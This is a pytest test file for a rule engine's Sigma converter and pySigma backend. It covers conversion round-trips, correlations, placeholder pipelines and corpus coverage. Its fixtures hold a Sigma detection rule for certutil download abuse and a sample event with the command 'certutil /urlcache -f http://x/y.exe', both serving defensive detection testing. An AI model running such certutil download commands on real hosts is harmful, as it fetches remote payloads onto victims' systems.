"""``cep sigma convert`` and the pySigma backend print rule text that the engine loads back
into the very rules it runs for the Sigma files (same canonical text, same versions)."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
from sigma.collection import SigmaCollection
from sigma.plugins import InstalledSigmaPlugins

from cep.app.rules import load_rule_set
from cep.sigma.backend import CepBackend

ROOT = Path(__file__).resolve().parents[2]
SIGMA = ROOT.parent / "shared" / "sigma"

RULE = """
title: Suspicious Certutil Download
id: 19b08b1c-861d-4e75-a1ef-ea0c1baf202b
author: Florian Roth (Nextron Systems)
references:
  - https://github.com/SigmaHQ/sigma
tags:
  - attack.t1105
logsource:
  category: process_creation
  product: windows
detection:
  selection_img:
    - Image|endswith: '\\certutil.exe'
    - OriginalFileName: 'CertUtil.exe'
  selection_cli:
    CommandLine|contains|windash:
      - '-urlcache '
      - '-verifyctl '
  condition: all of selection_*
level: high
"""


def _convert(*args: str) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run([sys.executable, "-m", "cep.cli", "sigma", "convert", *args],
                          capture_output=True, cwd=ROOT, check=False)


def test_converted_text_loads_back_to_the_same_rules(tmp_path: Path) -> None:
    yml = tmp_path / "proc_creation_win_certutil_download.yml"
    yml.write_text(RULE, encoding="utf-8")
    done = _convert(str(yml))
    assert done.returncode == 0, done.stderr
    cep = tmp_path / "converted.cep"
    cep.write_bytes(done.stdout)
    from_sigma = load_rule_set([str(yml)])
    from_text = load_rule_set([str(cep)])
    assert from_sigma.ok and from_text.ok, from_text.diagnostics
    assert [(r.name, r.version, r.severity) for r in from_text.rules] == \
        [(r.name, r.version, r.severity) for r in from_sigma.rules] == \
        [("proc_creation_win_certutil_download", from_sigma.rules[0].version, "high")]


def test_pysigma_backend_prints_the_same_text(tmp_path: Path) -> None:
    yml = tmp_path / "proc_creation_win_certutil_download.yml"
    yml.write_text(RULE, encoding="utf-8")
    coll = SigmaCollection.load_ruleset([str(yml)])
    assert CepBackend().convert(coll) == _convert(str(yml)).stdout.decode()
    assert InstalledSigmaPlugins.autodiscover().backends["cep"] is CepBackend


def test_pysigma_backend_converts_correlations_as_cep_does(tmp_path: Path) -> None:
    yml = tmp_path / "mr_many_users.yml"
    yml.write_text(RULE.replace("title: Suspicious", "name: certutil_download\ntitle: Suspicious")
                   + "---\ntitle: Many users\nname: many_users\ncorrelation:\n"
                   "  type: value_count\n  rules: [certutil_download]\n  group-by: [Computer]\n"
                   "  timespan: 1h\n  condition: {gte: 3, field: User}\n", encoding="utf-8")
    text = CepBackend().convert(SigmaCollection.load_ruleset([str(yml)]))
    assert text == _convert(str(yml)).stdout.decode()
    assert text.startswith("rule many_users\n") and "having count_distinct(User) >= 3" in text


def test_unsupported_rule_is_left_out_with_its_reason(tmp_path: Path) -> None:
    yml = tmp_path / "placeholder.yml"
    yml.write_text(RULE.replace("CommandLine|contains|windash:", "User|expand:")
                   .replace("'-urlcache '", "'%admins%'").replace("- '-verifyctl '", ""),
                   encoding="utf-8")
    done = _convert(str(yml))
    assert done.returncode == 0 and done.stdout == b""
    assert b"left out: placeholder %admins% has no value" in done.stderr
    vals = tmp_path / "vars.yml"  # a pipeline file gives the placeholder its values
    vals.write_text("name: admins\nvars:\n  admins: [root, Administrator]\n"
                    "transformations:\n  - type: value_placeholders\n", encoding="utf-8")
    done = _convert(str(yml), "--sigma-pipeline", str(vals))
    assert done.returncode == 0, done.stderr
    assert b'lower(this.User) in ["root", "administrator"]' in done.stdout


def test_broken_sigma_file_is_an_error_at_its_line(tmp_path: Path) -> None:
    yml = tmp_path / "broken.yml"
    yml.write_text("title: x\ndetection:\n  sel: [\n", encoding="utf-8")
    done = _convert(str(yml))
    assert done.returncode == 1
    assert f"{yml}:".encode() in done.stderr and b"not valid YAML" in done.stderr


@pytest.mark.shared
def test_all_corpus_rules_compile_or_have_a_reason() -> None:
    """All 3,777 rules: at least 98 % compile; each left out names its reason."""
    folders = [str(SIGMA / f) for f in ("rules", "rules-emerging-threats",
                                        "rules-threat-hunting", "rules-placeholder")]
    rs = load_rule_set(folders)
    assert rs.ok, rs.errors[:3]
    left_out = [d for d in rs.diagnostics if "left out:" in d.message]
    total = len(rs.rules) + len(left_out)
    assert total == 3777
    assert len(rs.rules) / total >= 0.98
    for d in left_out:
        reason = d.message.split("left out:", 1)[1]
        assert "placeholder" in reason or "RE2" in reason, d.message
    print(f"\n{len(rs.rules)} of {total} Sigma rules compile; left out: "
          f"{len(left_out)} (placeholders without values)")


def test_unsupported_correlation_is_left_out_with_a_warning(tmp_path: Path) -> None:
    yml = tmp_path / "with_correlation.yml"
    yml.write_text(RULE.replace("title: Suspicious", "name: certutil_download\ntitle: Suspicious")
                   + "---\ntitle: Many users\ncorrelation:\n  type: value_median\n"
                   "  rules: [certutil_download]\n  group-by: [Computer]\n  timespan: 1h\n"
                   "  condition: {gte: 3, field: User}\n", encoding="utf-8")
    rs = load_rule_set([str(yml)])
    # the detection rule serves the correlation only (no `generate: true`): nothing runs
    assert rs.ok and rs.rules == []
    assert any("correlation rule `Many users` left out: correlation type value_median has no "
               "form" in d.message and d.severity == "warning" for d in rs.diagnostics)
    supported = yml.read_text().replace("value_median", "value_count")
    yml.write_text(supported, encoding="utf-8")
    rs = load_rule_set([str(yml)])
    assert rs.ok and [r.name for r in rs.rules] == ["with_correlation"]
    assert rs.rules[0].key_names == ("Computer",)


SAMPLE = {"Event": {"System": {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational"},
                    "EventData": {"Image": "C:\\Windows\\System32\\certutil.exe",
                                  "CommandLine": "certutil /urlcache -f http://x/y.exe"}},
          "ts": 1000}


@pytest.mark.parametrize("command", ["run", "replay"])
def test_run_and_replay_take_the_sigma_pipeline(tmp_path: Path, command: str) -> None:
    (tmp_path / "proc_creation_win_certutil_download.yml").write_text(RULE, encoding="utf-8")
    events = tmp_path / "events.jsonl"
    events.write_text(json.dumps(SAMPLE) + "\n", encoding="utf-8")
    out = {}
    for label, extra in (("plain", []), ("xml", ["--sigma-pipeline", "windows-xml"])):
        alerts = tmp_path / f"{label}.jsonl"
        done = subprocess.run([sys.executable, "-m", "cep.cli", command, "-r", str(tmp_path),
                               "-i", str(events), "-o", str(alerts), "-q", *extra],
                              capture_output=True, cwd=ROOT, check=False)
        assert done.returncode == 0, done.stderr
        out[label] = [json.loads(line) for line in alerts.read_text().splitlines()]
    assert out["plain"] == []  # the rule's fields are under Event.EventData
    [alert] = out["xml"]
    assert alert["data"]["sigma_id"] == "19b08b1c-861d-4e75-a1ef-ea0c1baf202b"
    assert alert["severity"] == "high"
    assert alert["data"]["author"] == "Florian Roth (Nextron Systems)"


def test_rule_tests_list_sigma_files(tmp_path: Path) -> None:
    (tmp_path / "proc_creation_win_certutil_download.yml").write_text(RULE, encoding="utf-8")
    (tmp_path / "certutil.test.yaml").write_text(
        "rule_files: [proc_creation_win_certutil_download.yml]\n"
        "tests:\n"
        "  - name: a download alerts, a plain certutil does not\n"
        "    input:\n"
        "      - {ts: 0, Image: 'C:\\Windows\\certutil.exe', CommandLine: 'certutil -urlcache x'}\n"
        "      - {ts: 1, Image: 'C:\\Windows\\certutil.exe', CommandLine: 'certutil -dump'}\n"
        "    expect:\n"
        "      - rule: proc_creation_win_certutil_download\n"
        "        data: {level: high}\n", encoding="utf-8")
    done = subprocess.run([sys.executable, "-m", "cep.cli", "test", str(tmp_path)],
                          capture_output=True, cwd=ROOT, check=False)
    assert done.returncode == 0, done.stdout + done.stderr
    assert b"1 passed, 0 failed" in done.stdout + done.stderr
